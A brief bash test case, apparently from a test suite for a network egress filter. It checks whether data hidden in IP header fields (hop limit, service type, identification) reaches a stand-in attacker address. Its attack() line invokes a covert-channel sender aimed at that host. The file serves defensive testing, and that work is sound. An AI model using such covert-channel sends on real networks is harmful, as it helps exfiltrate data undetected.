# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Words in hop limit, service type and identification, toward the attacker'
origin='RESEARCH §2.5'
reason='not_resolved'
# The port is the nonce: no packet of it may come at all.
attack() { tool send.py covert 198.18.3.66 9999 $((20000 + 16#${1: -4} % 10000)); }
arrived() { tcpdump -n -r "$T/a.pcap" "src port $((20000 + 16#${1: -4} % 10000))" 2> /dev/null | grep -q .; }
